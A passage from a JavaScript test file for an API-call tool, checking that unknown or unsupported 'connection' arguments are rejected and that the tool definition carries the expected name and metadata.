    for (const connection of [undefined, 'home', 'Third', 3]) {
      const result = await from.call({ target, ...(connection !== undefined && { connection }) });
      expect(codeOf(result)).toBe('no code');
      expect(textsOf(result)[1]).toContain('"Work", "Home"');
    }
    expect(received).toHaveLength(1);
  });

  test('one has no such argument, and is refused one', async () => {
    const from = caller();
    expect(from.tool.definition.inputSchema.properties).not.toHaveProperty('connection');
    expect(textsOf(await from.call({ target: 'http://api.example.com/', connection: 'Work' }))[1]).toContain(
      'no argument "connection"',
    );
  });
});

test('the tool says what it is, and no schema of its output', () => {
  const { definition } = caller().tool;
  expect(definition).toMatchObject({
    name: 'acme_service__api_call',
    _meta: { 'slipway/tool-source': 'integration', 'dev.appstrate/api-call': { tool_key: 'api_call' } },
  });
  expect(definition).not.toHaveProperty('outputSchema');
});
